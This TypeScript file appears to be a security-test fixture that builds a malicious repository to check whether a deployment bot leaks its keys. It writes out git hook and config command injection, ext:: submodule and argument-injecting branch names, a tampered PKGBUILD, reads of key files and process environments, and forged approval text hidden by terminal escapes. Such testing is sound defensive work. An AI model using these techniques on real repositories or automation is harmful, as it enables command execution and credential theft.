/** A product whose people want the bot's keys: its scripts, its PKGBUILD, its program, its server, and names made to be misread. */
import type { Configuration } from '../../sandbox/configuration.ts'
import { addCommits, type Changes, fileAt, git, headOf } from '../../sandbox/git.ts'
import type { World } from '../../sandbox/world.ts'

/** What the attacker aims at; it knows every path, as somebody inside would. */
export interface Aims {
  readonly dataFolder: string
  readonly keyFile: string
  /** Made by whatever runs as the bot because of a hook, a setting of git, an option or a command in a name. */
  readonly mark: string
  /** The name of a secret in the bot's own environment. */
  readonly secret: string
}

const MALLORY = { name: 'Mallory \u202eyrollaM', email: 'mallory@harbour.invalid' }
const ESCAPE = '\u001b[2J\u001b]0;owned\u0007\u202e'
/** What nobody but the bot may say in the thread. */
export const FORGED = 'Approved by mira, 12:00 UTC.'
/** How long what it leaves behind sleeps: with its environment, and without. */
export const [MARKED, CLEARED] = ['98765', '98764']
/** What somebody else's site, or a server, answers with. */
export const MISREAD = `9.9.9${ESCAPE}\n${FORGED}\n@everyone <!channel>`

/** The same names in words: an option, a command for a shell, a line of its own, letters that move the others. */
const NAMES = ['--upload-pack=touch mark', '$(touch mark)', '`touch mark`', `a\\n${FORGED}`, ';touch mark', '\\033[2J']

/** Puts the hostile commit and branches onto the origin. */
export async function pushHostile({ origin }: World, aims: Aims): Promise<void> {
  const { folder } = origin
  const read = async (path: string) => (await fileAt(folder, 'master', path)) ?? ''
  const files: Changes = {
    'scripts/hostile.sh': script(aims),
    'aur-package/PKGBUILD': hostilePkgbuild(await read('aur-package/PKGBUILD'), aims),
    'scripts/deploy/update_and_deploy.sh': onServer(await read('scripts/deploy/update_and_deploy.sh')),
    'scripts/deploy/verify_deployment.sh': behindShebang(
      await read('scripts/deploy/verify_deployment.sh'),
      `${attempts(aims, 'verify')}\n${misread()}`,
    ),
    '.gitattributes': '* filter=hostile diff=hostile merge=hostile\n',
    '.gitmodules': `[submodule "x"]\n\tpath = x\n\turl = ext::touch ${aims.mark}\n`,
    ...Object.fromEntries(NAMES.map((name) => [`"docs/${name.replace(/"/g, '')}.md"`, 'The version is 3.1.2.\n'])),
  }
  const message = `fix: close the gate${ESCAPE} @everyone <!channel> \`x\`\n${FORGED}\n\nSlipway-Deployment: #1`
  await addCommits(folder, [{ author: MALLORY, at: Math.floor(Date.now() / 1000), message, files }])
  const head = (await headOf(folder)) ?? ''
  for (const name of ['--upload-pack=touch', '$(touch${IFS}mark)', ';touch'])
    await git(folder, ['update-ref', `refs/heads/${name}`, head]).catch(() => undefined)
}

/** Every command of the configuration that runs what the repository holds. */
export function runHostile({ projects: { harbour } }: Configuration): void {
  const { build } = harbour
  const linux = [...build.targets.linux.run, ['./scripts/hostile.sh', 'linux']]
  const web = [['./scripts/hostile.sh', 'web'], ...build.targets.web.run]
  Object.assign(build, { clean: [...build.clean, ['./scripts/hostile.sh', 'clean']] })
  Object.assign(build.targets.linux, { run: linux })
  Object.assign(build.targets.web, { run: web })
}

/** Tries everything, arms the clone it runs in, leaves a process behind, prints what is to be misread; as linux it also changes the program. */
function script(aims: Aims): string {
  const git = [
    'core.sshCommand',
    'core.fsmonitor',
    'filter.hostile.clean',
    'filter.hostile.smudge',
    'diff.hostile.textconv',
  ]
  return `#!/bin/sh
where=$1
${attempts(aims, '$where')}
mkdir -p .git/hooks
for hook in pre-commit post-checkout pre-push post-commit reference-transaction; do
    printf '#!/bin/sh\\ntouch ${aims.mark}\\n' >".git/hooks/$hook"; chmod 755 ".git/hooks/$hook"
done
for setting in ${git.join(' ')}; do git config "$setting" 'touch ${aims.mark}' || true; done
setsid sleep ${MARKED} </dev/null >/dev/null 2>&1 &
env -i PATH="$PATH" setsid sleep ${CLEARED} </dev/null >/dev/null 2>&1 &
${misread()}
[ "$where" = linux ] || exit 0
program=build/linux/x64/release/bundle/harbour
mv "$program" "$program.real"
cat >"$program" <<'END'
#!/bin/sh
${attempts(aims, 'smoke')}
${reaches('smoke')}
exec "$(dirname "$(readlink -f "$0")")/harbour.real" "$@"
END
chmod 755 "$program"
`
}

/** Tries as it is sourced, for the .SRCINFO, and again as it packs. */
function hostilePkgbuild(text: string, aims: Aims): string {
  const packing = text.replace('package() {\n', (begins) => `${begins}${indented(attempts(aims, 'package'))}\n`)
  return `${packing}\nif [ -n "$HOME" ]; then\n${indented(attempts(aims, 'sourced'))}\nfi\n`
}

/** On the server the keys are far away: what is left is to print, and to keep what was handed over. */
function onServer(text: string): string {
  return behindShebang(text, `${misread()}\nenv >"$HOME/handed-over"\n${misread()} >&2`)
}

function behindShebang(script: string, lines: string): string {
  return script.replace('\n', () => `\n${lines}\n`)
}

/** Prints what clears a screen, names the window, turns letters round, and looks like words of the bot's own. */
function misread(): string {
  const escaped = ESCAPE.replaceAll('\u001b', '\\033').replaceAll('\u0007', '\\007')
  return `printf '${escaped}\\r${FORGED}\\nrc=0 pid=1 alive=no bytes=0 take=0\\n'`
}

/** Lines of a shell; that it came here, and each thing that could be had, is noted in HOME. */
function attempts({ dataFolder, keyFile, secret }: Aims, where: string): string {
  const tries = {
    environment: `env | grep -q ^${secret}=`,
    data: `ls ${dataFolder}/open`,
    journal: `cat ${dataFolder}/open/*`,
    clone: `touch ${dataFolder}/clones/harbour/touched`,
    key: `cat ${keyFile}`,
    signing: `cat ${dataFolder}/keys/signing.pem`,
    process: `cat /proc/${process.pid}/environ`,
    signal: `kill -0 ${process.pid}`,
    agent: `test -w ${dataFolder}/agent.sock`,
    kernel: 'test -w /proc/sys/kernel/core_pattern',
  }
  const came = `echo "${where}" >>"$HOME/came"`
  return [
    came,
    ...Object.entries(tries).map(
      ([name, line]) => `if ${line} >/dev/null 2>&1; then echo "${where} ${name}" >>"$HOME/loot"; fi`,
    ),
  ].join('\n')
}

/** Whether there is any network: a machine without one cannot send what it found. */
function reaches(where: string): string {
  return `if grep -q '^ *[a-z][a-z0-9]*: *[1-9]' /proc/net/dev; then echo "${where} network" >>"$HOME/loot"; fi`
}

function indented(lines: string): string {
  return lines.replace(/^/gm, '    ')
}
